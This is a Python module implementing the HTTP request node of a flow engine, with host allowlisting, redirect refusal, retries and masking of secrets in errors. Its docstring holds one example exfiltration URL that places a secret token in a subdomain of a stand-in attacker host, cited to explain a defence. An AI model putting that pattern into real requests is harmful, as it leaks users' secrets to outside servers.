"""The ``http`` node's client: templated requests to allow-listed hosts, with timeouts and retries.

Flow documents are user content, so the host (not the flow) decides which hosts may be called and which
secrets exist: an empty allowlist refuses every request, secrets come from the caller's mapping and never
from the document, and redirects are not followed (a redirect could leave the allowlist).

Secrets go only into headers and bodies, never into the URL: a URL is named in error messages, logs and
proxies, and its host is looked up in DNS, so ``http://{{ secrets.TOKEN }}.attacker.example/`` would hand
the secret to whoever runs that name server. Error messages, which reach the caller's client as
``flow.http`` events, have every secret value masked.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any
from urllib.parse import quote, quote_plus, urlsplit

import httpx

from flows.schema import HttpNode
from flows.templates import TemplateError, render, render_json, uses_secrets

__all__ = ["HttpResult", "HttpTool", "host_allowed", "lookup_path"]

_MISSING = object()
SECRET_MASK = "[secret]"
MAX_ERROR_CHARS = 300


@dataclass
class HttpResult:
    """What one http node call produced. ``saved`` holds the variables to set when ``ok``."""

    ok: bool
    status: int | None = None
    data: Any = None
    saved: dict[str, Any] = field(default_factory=dict)
    error: str | None = None
    attempts: int = 0


def host_allowed(url: str, allowed_hosts: Iterable[str]) -> bool:
    """Whether ``url``'s host is allowed. Entries: ``api.example.com``, ``*.example.com`` (subdomains),
    ``api.example.com:8443`` (that port only). An empty allowlist allows nothing."""
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower().rstrip(".")
        port = parts.port or (443 if parts.scheme == "https" else 80)
    except ValueError:  # "http://[::1", a port out of range
        return False
    if parts.scheme not in ("http", "https") or not host:
        return False
    for entry in allowed_hosts:
        entry = entry.strip().lower()
        want_port: int | None = None
        if ":" in entry and not entry.startswith("["):
            entry, _, port_text = entry.rpartition(":")
            if not port_text.isdigit():
                continue
            want_port = int(port_text)
        if want_port is not None and want_port != port:
            continue
        if entry.startswith("*."):
            if host.endswith(entry[1:]):
                return True
        elif host == entry.strip("[]"):
            return True
    return False


def _host(url: str) -> str:
    try:
        return urlsplit(url).hostname or url
    except ValueError:  # "http://[::1" and friends
        return url


def lookup_path(data: Any, path: str) -> Any:
    """``data`` at a dotted path ("data.items.0.id"); "" is the whole value. Raises KeyError if absent."""
    if path == "":
        return data
    current = data
    for part in path.split("."):
        if isinstance(current, Mapping) and part in current:
            current = current[part]
        elif (
            isinstance(current, list)
            and part.lstrip("-").isdigit()
            and -len(current) <= int(part) < len(current)
        ):
            current = current[int(part)]
        else:
            raise KeyError(path)
    return current


class HttpTool:
    """Runs http nodes for one host application (share one per process or per session).

    ``allowed_hosts``: see :func:`host_allowed`. ``secrets``: values for ``{{ secrets.NAME }}``.
    ``client``: an ``httpx.AsyncClient`` to reuse (its redirect setting is overridden per request).
    """

    def __init__(
        self,
        allowed_hosts: Iterable[str] = (),
        secrets: Mapping[str, str] | None = None,
        *,
        client: httpx.AsyncClient | None = None,
        max_response_bytes: int = 1_000_000,
        trust_env: bool = True,
        retry_backoff_s: float = 0.2,
    ) -> None:
        self.allowed_hosts = tuple(allowed_hosts)
        self._secrets = dict(secrets or {})
        self._client = client
        self.max_response_bytes = max_response_bytes
        self.trust_env = trust_env
        self.retry_backoff_s = retry_backoff_s

    async def call(
        self, node: HttpNode, variables: Mapping[str, Any], *, now: datetime | None = None
    ) -> HttpResult:
        """Render and send the node's request; never raises for request problems (see ``HttpResult.error``)."""
        result = await self._call(node, variables, now)
        if result.error is not None:
            result.error = self.redact(result.error)[:MAX_ERROR_CHARS]
        return result

    def redact(self, text: str) -> str:
        """``text`` with every secret value masked, as written and as it appears quoted or URL-encoded."""
        for value in sorted(self._secrets.values(), key=len, reverse=True):
            if not value:
                continue
            for form in {value, repr(value)[1:-1], quote(value, safe=""), quote_plus(value)}:
                text = text.replace(form, SECRET_MASK)
        return text

    async def _call(self, node: HttpNode, variables: Mapping[str, Any], now: datetime | None) -> HttpResult:
        context: dict[str, Any] = dict(variables)
        if now is not None:
            context["now"] = now
        try:
            if uses_secrets(node.url):  # validation refuses this too; a flow built in code is checked here
                return HttpResult(ok=False, error="secrets may not be used in the url; request refused")
            url = render(node.url, context)  # no secrets in this context: the URL cannot reach them
            context["secrets"] = self._secrets
            headers = {k: render(v, context) for k, v in node.headers.items()}
            body = render_json(node.body, context) if node.body is not None else None
        except TemplateError as exc:
            return HttpResult(ok=False, error=str(exc))
        if not host_allowed(url, self.allowed_hosts):
            host = _host(url)
            return HttpResult(
                ok=False,
                error=f"host {host[:100]!r} is not on the allowlist of hosts flows may call; request refused",
            )
        if self._client is not None:
            return await self._send(self._client, node, url, headers, body)
        async with httpx.AsyncClient(trust_env=self.trust_env, follow_redirects=False) as client:
            return await self._send(client, node, url, headers, body)

    async def _send(
        self, client: httpx.AsyncClient, node: HttpNode, url: str, headers: dict[str, str], body: Any
    ) -> HttpResult:
        result = HttpResult(ok=False)
        for attempt in range(node.retries + 1):
            if attempt:
                await asyncio.sleep(self.retry_backoff_s * attempt)
            result.attempts = attempt + 1
            try:
                response = await client.request(
                    node.method,
                    url,
                    headers=headers,
                    json=body,
                    timeout=httpx.Timeout(node.timeout_s),
                    follow_redirects=False,
                )
            except httpx.TimeoutException:
                result.error = f"timed out after {node.timeout_s:g} s"
                continue
            except httpx.HTTPError as exc:
                result.error = f"request failed: {type(exc).__name__}: {exc}"
                continue
            except (httpx.InvalidURL, ValueError) as exc:  # a rendered URL or header httpx cannot send
                result.error = f"request not sent: {type(exc).__name__}: {exc}"
                return result
            result.status = response.status_code
            if response.status_code >= 500:  # the server's trouble: worth another try
                result.error = f"HTTP {response.status_code}"
                continue
            if response.status_code >= 300:  # client errors and redirects will not change on retry
                result.error = f"HTTP {response.status_code}"
                return result
            return self._parse(node, response, result)
        return result

    def _parse(self, node: HttpNode, response: httpx.Response, result: HttpResult) -> HttpResult:
        if len(response.content) > self.max_response_bytes:
            result.error = f"response larger than {self.max_response_bytes} bytes"
            return result
        if response.content.strip():
            try:
                result.data = response.json()
            except ValueError:  # json.JSONDecodeError is a ValueError
                result.data = response.text
                if node.save:
                    result.error = "response is not JSON, so nothing can be saved from it"
                    return result
        for name, path in node.save.items():
            try:
                result.saved[name] = lookup_path(result.data, path)
            except KeyError:
                result.error = f"response has no {path!r} (for variable {name!r})"
                result.saved = {}
                return result
        result.ok = True
        result.error = None
        return result
